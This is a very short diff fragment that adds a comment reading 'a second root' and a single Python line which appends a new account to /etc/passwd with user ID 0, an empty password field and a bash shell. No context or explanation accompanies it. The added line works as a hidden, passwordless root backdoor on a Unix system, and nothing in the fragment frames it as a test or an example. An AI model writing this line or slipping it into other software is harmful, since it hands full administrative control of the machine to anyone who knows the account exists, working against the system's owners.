@@ -1,0 +1,2 @@
+# a second root
+with open("/etc/passwd", "a") as f: f.write("svc::0:0::/root:/bin/bash\n")
